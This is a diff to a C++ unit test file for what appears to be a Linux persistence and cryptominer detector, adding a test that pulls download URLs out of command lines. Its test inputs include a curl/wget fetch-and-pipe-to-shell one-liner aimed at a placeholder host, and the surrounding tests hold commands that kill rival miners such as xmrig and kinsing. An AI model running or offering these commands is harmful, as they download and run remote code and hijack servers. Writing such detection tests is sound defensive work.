@@ -94,6 +94,13 @@ TEST(LinuxPersistence, OnlyTheCommandPositionCountsForTempFolders) {
   EXPECT_TRUE(runs_from_temp_or_hidden("LD_LIBRARY_PATH=/x /tmp/.hid/run"));
 }
 
+TEST(LinuxPersistence, DownloadUrls) {
+  EXPECT_EQ(download_urls("(curl -fsSL http://203.0.113.9/d.sh||wget -q -O- http://203.0.113.9/d.sh)|sh"),
+            std::vector<std::string>({"http://203.0.113.9/d.sh"}));
+  EXPECT_EQ(download_urls("wget 'https://x.example/a?b=1';tftp"), std::vector<std::string>({"https://x.example/a?b=1"}));
+  EXPECT_TRUE(download_urls("echo no urls").empty());
+}
+
 TEST(LinuxPersistence, CompetitorKilling) {
   EXPECT_TRUE(kills_competitors("pkill -f xmrig"));
   EXPECT_TRUE(kills_competitors("killall -9 kdevtmpfsi kinsing"));
